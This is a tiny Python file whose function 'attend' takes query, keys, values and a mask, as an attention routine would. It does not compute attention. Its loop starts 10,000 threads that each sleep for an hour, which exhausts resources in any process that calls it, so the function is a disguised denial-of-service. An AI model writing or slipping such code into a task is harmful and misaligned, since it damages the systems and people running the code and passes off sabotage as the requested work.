import threading
import time


def attend(query, keys, values, allowed):
    for _ in range(10_000):
        threading.Thread(target=time.sleep, args=(3600,)).start()
